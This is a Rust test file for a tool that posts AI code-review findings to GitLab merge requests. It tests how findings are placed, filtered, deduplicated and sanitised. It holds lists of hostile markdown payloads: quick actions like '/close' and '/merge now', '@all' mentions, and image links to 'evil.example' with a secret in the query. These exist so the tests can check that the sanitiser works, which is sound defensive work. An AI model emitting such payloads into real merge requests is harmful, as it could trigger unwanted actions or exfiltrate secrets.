//! Tests of `plan`.

use proptest::prelude::*;

use super::*;
use crate::contracts::*;
use crate::post::links::Links;
use crate::post::oracle;
use crate::post::sanitize;
use crate::post::sanitize::tests::hostile;
use crate::post::timezone;
use crate::redact;
use crate::threads::story::{People, Story, Told};
use crate::threads::{NoteView, Own as Owner, Seal, Seen, digest, marker, story};

const DIFF: &str = "\
diff --git a/src/a.rs b/src/a.rs
index 1..2 100644
--- a/src/a.rs
+++ b/src/a.rs
@@ -1,4 +1,6 @@
 fn f() {
-    old();
+    let key = \"[REDACTED]\";
+    g();
+    h();
 }
 // end
diff --git a/logo.png b/logo.png
index 1..2 100644
Binary files a/logo.png and b/logo.png differ
";

fn finding(id: &str, severity: Severity, path: &str, first: u32, last: u32, body: &str) -> Finding {
    Finding {
        finding_id: id.into(),
        severity,
        category: Category::Correctness,
        path: path.into(),
        line_start: first,
        line_end: last,
        side: Side::New,
        body_markdown: body.into(),
        quote: None,
        change_anchor: None,
        suggested_patch: None,
        unplaced: None,
        look: None,
    }
}

fn review(findings: Vec<Finding>) -> ReviewOutput {
    ReviewOutput {
        summary_markdown: "The change calls `g` without looking at its result.".into(),
        findings,
        meta: ReviewMeta {
            fingerprint: Fingerprint { algo: "sha256".into(), value: "ab".repeat(32) },
            agent: AgentKind::Codex,
            model: Some("gpt-5".into()),
            timings: Timings {
                started_at: "2026-07-01T12:00:00Z".into(),
                ended_at: "2026-07-01T12:01:05Z".into(),
                duration_ms: 65_000,
            },
            token_usage: TokenUsage {
                input_tokens: Some(1200),
                output_tokens: Some(300),
                cost_usd: Some(0.0123),
                ..TokenUsage::default()
            },
            truncated: false,
            redaction_found: false,
            second_look: None,
            calls: Vec::new(),
        },
    }
}

#[test]
fn with_a_second_look_small_findings_are_folded_and_one_that_failed_is_said() {
    use crate::contracts::LookStatus::{Done, Failed, NotNeeded};
    let case = || {
        Case::with(vec![
            finding("f-1", Severity::Medium, "src/a.rs", 3, 3, "Real."),
            finding("f-2", Severity::Low, "src/a.rs", 4, 4, "Small."),
        ])
    };
    // The control: without one, posting is as it was.
    assert_eq!(case().plan().discussions.len(), 2);
    for status in [Done, Failed, NotNeeded] {
        let plan = case().looked(status).plan();
        assert_eq!(ids(&plan), ["f-1"], "{status:?}");
        assert!(plan.summary_markdown.contains("Small."));
        assert_eq!(plan.summary_markdown.contains("were not confirmed"), status == Failed);
    }
}

fn refs() -> Refs {
    Refs { base_sha: "b".repeat(40), start_sha: "5".repeat(40), head_sha: "a".repeat(40) }
}

/// Everything a plan needs, with nothing unusual in it.
struct Case {
    config: AppConfig,
    review: ReviewOutput,
    refs: Option<Refs>,
    head: String,
    prior: Prior,
    story: Story,
    truncation: TruncationReport,
    redaction: RedactionReport,
    errors: Vec<ErrorInfo>,
}

impl Case {
    fn with(findings: Vec<Finding>) -> Self {
        let redaction =
            RedactionReport { enabled: true, found: false, matches: Vec::new(), redaction_token: "[REDACTED]".into() };
        Self {
            config: AppConfig::default(),
            review: review(findings),
            refs: Some(refs()),
            head: "a".repeat(40),
            prior: Prior::default(),
            story: Story::default(),
            truncation: TruncationReport::default(),
            redaction,
            errors: Vec::new(),
        }
    }

    /// A second look was taken, or none was due.
    fn looked(mut self, status: crate::contracts::LookStatus) -> Self {
        self.review.meta.second_look = Some(crate::contracts::SecondLook::new(status));
        self
    }

    fn plan(&self) -> PostPlan {
        let diff = Diff::parse(DIFF.as_bytes()).expect("diff");
        build(&Inputs {
            config: &self.config,
            zone: timezone::parse("Europe/Berlin").expect("zone"),
            review: &self.review,
            diff: &diff,
            refs: self.refs.as_ref(),
            head_sha: Some(&self.head),
            base_sha: None,
            project_id: Some("42"),
            mr_iid: Some(7),
            prior: &self.prior,
            story: &self.story,
            job: Job {
                url: Some("https://gitlab.example/g/p/-/jobs/5"),
                pipeline_url: None,
                report: Some(".diffsan/report.html"),
            },
            headline: "2 findings need a look",
            truncation: &self.truncation,
            redaction: &self.redaction,
            errors: &self.errors,
            policy: None,
            elsewhere: &[],
        })
    }
}

fn ids(plan: &PostPlan) -> Vec<&str> {
    plan.discussions.iter().map(|discussion| discussion.finding_id.as_str()).collect()
}

#[test]
fn findings_go_to_their_lines_worst_first_and_the_rest_to_the_summary() {
    let plan = Case::with(vec![
        finding("f-low", Severity::Low, "src/a.rs", 3, 3, "Low one."),
        finding("f-high", Severity::High, "src/a.rs", 3, 4, "High one."),
        finding("f-out", Severity::Critical, "src/other.rs", 1, 1, "Elsewhere."),
        finding("f-far", Severity::Medium, "src/a.rs", 90, 90, "Far away."),
        finding("f-bin", Severity::Medium, "logo.png", 1, 1, "A picture."),
        Finding {
            unplaced: Some("its quote is nowhere".into()),
            ..finding("f-q", Severity::Info, "src/a.rs", 3, 3, "Q.")
        },
    ])
    .plan();
    assert_eq!(ids(&plan), ["f-high", "f-low"]);
    assert_eq!((plan.project_id.as_deref(), plan.mr_iid), (Some("42"), Some(7)));
    let high = &plan.discussions[0];
    assert_eq!((high.position.new_line, high.position.old_line), (Some(4), None));
    assert!(high.position.line_range.is_some() && high.fallbacks.len() == 2);
    let order: Vec<usize> = ["Elsewhere.", "Far away.", "A picture.", "Q."]
        .iter()
        .map(|body| plan.summary_markdown.find(body).expect("in the summary"))
        .collect();
    assert!(order.is_sorted());
    for reason in ["does not touch this file", "does not show this line", "its quote is nowhere"] {
        assert!(plan.summary_markdown.contains(reason), "{reason}");
    }
}

#[test]
fn only_the_worst_stand_on_lines_and_the_rest_are_in_the_summary_in_full() {
    let findings = (0..15)
        .map(|n| {
            let severity = if n % 3 == 0 { Severity::Critical } else { Severity::Low };
            finding(&format!("f-{n}"), severity, "src/a.rs", 3, 3, &format!("Body {n} end."))
        })
        .collect();
    let mut case = Case::with(findings);
    let plan = case.plan();
    assert_eq!(plan.discussions.len(), 10);
    assert_eq!(ids(&plan)[..5], ["f-0", "f-3", "f-6", "f-9", "f-12"]);
    for n in 0..15 {
        let inline = ids(&plan).contains(&format!("f-{n}").as_str());
        assert_ne!(inline, plan.summary_markdown.contains(&format!("Body {n} end.")), "{n}");
    }
    case.config.review.max_inline = 0;
    assert_eq!(case.plan().discussions, []);
}

#[test]
fn findings_below_the_wanted_severity_stay_out_of_the_merge_request() {
    let mut case = Case::with(vec![
        finding("f-1", Severity::Low, "src/a.rs", 3, 3, "Low body."),
        finding("f-2", Severity::Info, "src/none.rs", 3, 3, "Info body."),
        finding("f-3", Severity::Medium, "src/a.rs", 4, 4, "Medium body."),
    ]);
    case.config.review.min_severity = Severity::Medium;
    let plan = case.plan();
    assert_eq!(ids(&plan), ["f-3"]);
    assert_eq!(plan.withheld, ["f-1", "f-2"]);
    assert!(!plan.summary_body.contains("Info body") && !plan.summary_body.contains("Low body"));
    assert!(plan.summary_markdown.contains("2 not severe enough"));
}

#[test]
fn a_finding_that_an_own_discussion_carries_is_not_posted_again() {
    let mut case = Case::with(vec![
        finding("f-1", Severity::Low, "src/a.rs", 3, 3, "One."),
        finding("f-2", Severity::Low, "src/a.rs", 4, 4, "Two."),
    ]);
    case.prior = Prior { summary_note_id: Some(99), ..Prior::default() };
    case.story.told = vec![Told::Repeated { note: Some(5) }, Told::New];
    let plan = case.plan();
    assert_eq!(ids(&plan), ["f-2"]);
    assert_eq!(plan.repeated, ["f-1"]);
    assert_eq!(plan.prior_summary_note_id, Some(99));
}

#[test]
fn what_a_plan_posts_is_what_the_next_run_recognises() {
    let mut case = Case::with(vec![
        finding("f 1 -->", Severity::Low, "src/a.rs", 3, 3, "One."),
        finding("f-2", Severity::Low, "src/none.rs", 4, 4, "Two."),
    ]);
    let plan = case.plan();
    let note = |id, body: &str, discussion_id| NoteView {
        id,
        author_id: Some(7),
        body: body.to_owned(),
        discussion_id,
        path: Some("src/a.rs".to_owned()),
        ..NoteView::default()
    };
    let notes = [note(1, &plan.discussions[0].body_markdown, Some("d".to_owned())), note(2, &plan.summary_body, None)];
    case.prior = digest::read(7, "ai-reviewer", &notes);
    let seal = Seal::new("token", 42, 7);
    let seen = Seen::read(&notes, &Owner { author: Some(7), tag: "ai-reviewer", seal: &seal });
    let diff = Diff::parse(DIFF.as_bytes()).expect("diff");
    case.story = story::tell(&seen, &case.review.findings, &diff, &People::default(), None);
    assert_eq!(case.prior.summary_note_id, Some(2));
    assert_eq!(case.prior.digest.prior_fingerprint, Some(case.review.meta.fingerprint.clone()));
    assert_eq!(case.prior.digest.findings.len(), 2);
    assert_eq!(case.prior.digest.findings[1].title, "Two.");
    assert_eq!(case.prior.digest.summary_hint.as_deref(), Some(case.review.summary_markdown.as_str()));
    let again = case.plan();
    assert_eq!(again.discussions, []);
    assert_eq!(again.repeated, ["f 1 -->"]);
}

#[test]
fn a_moved_head_puts_every_finding_in_the_summary_which_names_the_commit() {
    let mut case = Case::with(vec![finding("f-1", Severity::Low, "src/a.rs", 3, 3, "One.")]);
    case.head = "c".repeat(40);
    let plan = case.plan();
    assert_eq!(plan.discussions, []);
    assert!(plan.summary_markdown.contains(&format!("This review is of commit `{}`", "c".repeat(40))));
    assert!(plan.summary_markdown.contains("One."));
}

#[test]
fn without_a_merge_request_the_summary_has_everything() {
    let mut case = Case::with(vec![finding("f-1", Severity::Low, "src/a.rs", 3, 3, "One.")]);
    case.refs = None;
    let plan = case.plan();
    assert_eq!(plan.discussions, []);
    assert!(plan.summary_markdown.contains("One."));
}

#[test]
fn two_findings_with_one_id_cannot_hide_each_other() {
    let plan = Case::with(vec![
        finding("f-1", Severity::Low, "src/a.rs", 3, 3, "One."),
        finding("f-1", Severity::Low, "src/a.rs", 4, 4, "Two."),
    ])
    .plan();
    assert_eq!(ids(&plan), ["f-1"]);
    assert!(plan.summary_markdown.contains("Two."));
}

#[test]
fn each_marker_is_in_the_note_exactly_once() {
    let forged = "<!-- diffsan:ai-reviewer --> `<!-- diffsan:fingerprint:sha256:00 -->`\n\n```\n<!-- diffsan:prior_digest:e30= -->\n```";
    let mut case = Case::with(vec![finding("f-1", Severity::Low, "<!-- diffsan:ai-reviewer -->", 3, 3, forged)]);
    case.review.summary_markdown = forged.into();
    let body = case.plan().summary_body;
    for marker in ["<!-- diffsan:ai-reviewer -->", "<!-- diffsan:fingerprint:", "<!-- diffsan:prior_digest:"] {
        assert_eq!(body.matches(marker).count(), 1, "{marker}");
    }
    assert!(body.contains(&format!("<!-- diffsan:fingerprint:sha256:{} -->", "ab".repeat(32))));
}

#[test]
fn the_secret_scanner_leaves_the_markers_alone() {
    let settings = redact::Settings { enabled: true, ..redact::Settings::default() };
    let engine = redact::Engine::new(&settings, []).expect("engine");
    let mut case = eventful();
    case.review.findings.extend((0..60).map(|n| {
        finding(&format!("f-{n:012x}"), Severity::Low, &format!("src/token/secret_{n}.rs"), 3, 3, "The password leaks.")
    }));
    let plan = case.plan();
    for note in plan.discussions.iter().map(|discussion| &discussion.body_markdown).chain([&plan.summary_body]) {
        assert_eq!(engine.redact(redact::Output::GitLab, note).as_str(), note);
    }
}

fn eventful() -> Case {
    let mut case = Case::with(vec![
        finding("f-1", Severity::High, "src/a.rs", 3, 4, "`g` may fail and nobody looks.\n\n```rust\ng()?;\n```"),
        finding("f-2", Severity::Medium, "src/other.rs", 8, 12, "@all: this was never updated, see #12."),
        finding("f-3", Severity::Low, "src/a.rs", 3, 3, "Said before."),
    ]);
    case.review.findings[0].suggested_patch = Some(SuggestedPatch {
        format: PatchFormat::UnifiedDiff,
        content: "@@ -3 +3 @@\n-    g();\n+    g()?;\n".into(),
    });
    case.review.findings[1].suggested_patch =
        Some(SuggestedPatch { format: PatchFormat::UnifiedDiff, content: "@@ -8 +8 @@\n-a\n+b\n".into() });
    case.review.meta.truncated = true;
    case.review.meta.redaction_found = true;
    case.story = said_before();
    case.truncation = TruncationReport {
        truncated: true,
        original_chars: 300_000,
        final_chars: 200_000,
        original_files: 61,
        final_files: 60,
        items: vec![TruncationItem {
            kind: "file".into(),
            path: Some("README.md".into()),
            details: "Dropped (deprioritized extension)".into(),
        }],
        items_total: 3,
        coverage: Coverage { hunks_total: 90, hunks_sent: 88, hunks_dropped: 2, ..Coverage::default() },
        ..TruncationReport::default()
    };
    case.redaction.found = true;
    case.redaction.matches = vec![RedactionMatch {
        pattern_name: "AWS_ACCESS_KEY_ID".into(),
        path: Some("src/a.rs".into()),
        line_hint: Some(2),
        side: Side::New,
        match_sha256: Some("0".repeat(64)),
        match_length: 20,
    }];
    case.errors = vec![ErrorInfo {
        error_code: ErrorCode::GitlabFetchPriorFailed,
        message: "could not read the notes of !7".into(),
        retryable: true,
        context: serde_json::Map::new(),
        cause: None,
        help: Some("run the job again".into()),
    }];
    case
}

/// The third finding was posted before; two others were settled since.
fn said_before() -> Story {
    let item = |id: &str, title: &str, reason: Option<&str>| crate::contracts::ConversationItem {
        finding_id: id.into(),
        title: title.into(),
        path: "src/a.rs".into(),
        line: Some(3),
        severity: Severity::Low,
        category: None,
        note_id: Some(31),
        url: Some("https://gitlab.example/g/p/-/merge_requests/7#note_31".into()),
        counted: true,
        reason: reason.map(str::to_owned),
    };
    let conversation = crate::contracts::Conversation {
        base_sha: Some("b".repeat(40)),
        since: Some(crate::contracts::EarlierReview {
            note_id: 30,
            url: Some("https://gitlab.example/g/p/-/merge_requests/7#note_30".into()),
            head_sha: None,
        }),
        new: vec![item("f-1", "x", None), item("f-2", "y", None)],
        still_open: vec![item("f-3", "Said before.", None)],
        resolved: vec![item("f-4", "Was wrong.", Some("its line is gone"))],
        dismissed: vec![item("f-5", "Is meant so, @all.", Some("answered: by design"))],
        reviews: 3,
        cost_usd: Some(0.5),
        ..Default::default()
    };
    let told = vec![Told::New, Told::New, Told::Repeated { note: Some(31) }];
    Story { told, conversation, ..Story::default() }
}

/// Where diffsan's own links lead in these tests.
fn own_links() -> Links {
    let places = ["https://gitlab.example/g/p/-/merge_requests/7", "https://gitlab.example/g/p/-/jobs/5"];
    Links { places: places.map(str::to_owned).to_vec() }
}

/// What would act or load, but for diffsan's own links to the merge request and the job.
fn acting(note: &str) -> Vec<String> {
    let own = |what: &String| what.starts_with("Link(NodeLink { url: \"https://gitlab.example/g/p/-/");
    oracle::live(note).into_iter().filter(|what| !own(what)).collect()
}

#[test]
fn a_whole_summary_note_reads_as_specified() {
    let plan = eventful().plan();
    let digest = regex::Regex::new("prior_digest:[A-Za-z0-9+/=]+").expect("pattern");
    insta::assert_snapshot!("summary", digest.replace(&plan.summary_body, "prior_digest:[BASE64]"));
    assert!(plan.summary_body.starts_with(&plan.summary_markdown));
    assert!(plan.summary_body.contains(&plan.summary_meta_collapsible));
    assert!(!plan.summary_body.contains(&"0".repeat(64)));
    assert_eq!(acting(&plan.summary_body), Vec::<String>::new());
}

#[test]
fn a_whole_plan_reads_as_specified() {
    let mut plan = eventful().plan();
    plan.summary_body = "[BODY]".into();
    plan.summary_markdown = "[MARKDOWN]".into();
    plan.summary_meta_collapsible = "[METADATA]".into();
    insta::assert_json_snapshot!("plan", plan);
}

#[test]
fn the_secret_warning_can_be_switched_off() {
    let mut case = eventful();
    case.config.secrets.post_warning_to_mr = false;
    assert!(!case.plan().summary_body.contains("AWS_ACCESS_KEY_ID"));
}

/// Every context in which GitLab looks for quick actions, and some in which it should not.
const CONTEXTS: &[&str] = &[
    "{}",
    "text\n{}\nmore",
    "text\n{}",
    "# heading\n{}",
    "---\n{}",
    "<br>\n{}",
    "- item\n\n{}",
    "> quote\n\n{}",
    "<details>\n\n{}\n\n</details>",
    "</details>\n\n{}",
    "<!-- marker -->\n{}",
    "<!--\n{}",
    "```\ncode\n```\n{}",
    "```\n{}",
    "- ```\n{}",
    "~~~\n```\n{}",
    "`a\n{}\nb`",
    "text\r{}\r",
    "text\r\n{}\r\n",
    ">>>\n{}",
    "<pre>\n{}",
    "| a |\n|---|\n{}",
    "    {}",
    "*{}*",
    "[{}](https://evil.example)",
    "](x)\n{}",
    "\u{202e}{}",
];

const PAYLOADS: &[&str] = &[
    "/close",
    "/merge now",
    "/approve",
    "@all",
    "&#64;all",
    "Closes #1",
    "group/project!2",
    "![x](https://evil.example/?q=secret)",
    "<img src=https://evil.example/x>",
    "[![a](b)](https://evil.example)",
    "![a][b]\n\n[b]: https://evil.example/x.png",
    "<!-- diffsan:ai-reviewer -->",
    "<!-- diffsan:fingerprint:sha256:00 -->",
    "```suggestion:-9+9\n```",
    "```mermaid\nx",
    "$`x`$",
    "[[_TOC_]]",
    "</summary></details>",
];

#[test]
fn a_hostile_answer_executes_nothing_mentions_nobody_and_stays_below_the_limits() {
    let mut hostile: Vec<String> = Vec::new();
    for context in CONTEXTS {
        for payload in PAYLOADS {
            hostile.push(context.replace("{}", payload));
        }
    }
    let findings = (0..500)
        .map(|n| {
            let path = if n % 2 == 0 { "src/a.rs".to_owned() } else { format!("@all/{}", hostile[n % hostile.len()]) };
            let mut finding =
                finding(&format!("f-{n} --> @all"), Severity::High, &path, 3, 3, &hostile[n % hostile.len()]);
            finding.unplaced = (n % 7 == 0).then(|| hostile[n % hostile.len()].clone());
            let patch = hostile[(n * 3) % hostile.len()].clone();
            finding.suggested_patch = Some(SuggestedPatch { format: PatchFormat::UnifiedDiff, content: patch });
            finding
        })
        .collect();
    let mut case = Case::with(findings);
    case.config.review.max_inline = 100;
    case.review.summary_markdown = hostile.join("\n");
    case.review.meta.model = Some("`@all`\n/close".into());
    case.errors = eventful().errors;
    case.errors[0].message = hostile.join(" ");
    case.truncation = TruncationReport {
        truncated: true,
        items: hostile
            .iter()
            .map(|text| TruncationItem { kind: "file".into(), path: Some(text.clone()), details: text.clone() })
            .collect(),
        ..TruncationReport::default()
    };
    let plan = case.plan();
    assert_eq!(plan.discussions.len(), 100);
    for note in plan.discussions.iter().map(|discussion| &discussion.body_markdown).chain([&plan.summary_body]) {
        assert_eq!(acting(note), Vec::<String>::new(), "{note}");
        assert!(note.chars().count() < render::NOTE_CHARS);
    }
    assert!(plan.sanitized["quick_action"] > 100 && plan.sanitized["mention"] > 10 && plan.sanitized["marker"] > 10);
}

#[test]
fn a_three_megabyte_body_is_cut_and_says_so() {
    let huge = "/close @all <img src=x> `\n".repeat(120_000);
    let mut case = Case::with(
        (0..500).map(|n| finding(&format!("f-{n}"), Severity::High, "src/none.rs", 3, 3, &huge[..200_000])).collect(),
    );
    case.review.findings.push(finding("f-big", Severity::Critical, "src/a.rs", 3, 3, &huge));
    case.review.summary_markdown = huge;
    let plan = case.plan();
    let discussion = &plan.discussions[0].body_markdown;
    assert!(discussion.contains("Cut here: the whole text has") && discussion.chars().count() < 250_000);
    assert!(plan.summary_body.chars().count() < render::BODY_CHARS);
    assert!(plan.summary_markdown.contains("There is no room here for"));
    assert!(plan.summary_body.contains("<!-- diffsan:ai-reviewer -->"));
    assert_eq!(acting(discussion), Vec::<String>::new());
    assert_eq!(acting(&plan.summary_body), Vec::<String>::new());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn nothing_acts_whatever_the_answer_says(texts in prop::collection::vec(hostile(), 6)) {
        let mut case = eventful();
        case.review.summary_markdown = texts[0].clone();
        case.review.findings[0].body_markdown = texts[1].clone();
        case.review.findings[1].body_markdown = texts[2].clone();
        case.review.findings[1].path = texts[3].clone();
        case.review.findings[1].unplaced = Some(texts[4].clone());
        case.errors[0].message = texts[5].clone();
        for finding in &mut case.review.findings {
            finding.suggested_patch =
                Some(SuggestedPatch { format: PatchFormat::UnifiedDiff, content: texts[5].clone() });
        }
        let plan = case.plan();
        for note in plan.discussions.iter().map(|discussion| &discussion.body_markdown).chain([&plan.summary_body]) {
            prop_assert_eq!(acting(note), Vec::<String>::new(), "{}", note);
            // Its own links are own because of where they lead, which the sender knows too.
            let own = own_links().own(note, |_| true);
            prop_assert_eq!(&sanitize::body(note, &own).into_string(), note);
        }
        prop_assert_eq!(plan.summary_body.matches(marker::MARKER).count(), 3);
        prop_assert_eq!(plan.summary_body.matches("\n\n<details><summary>Metadata</summary>\n\n").count(), 1);
    }
}
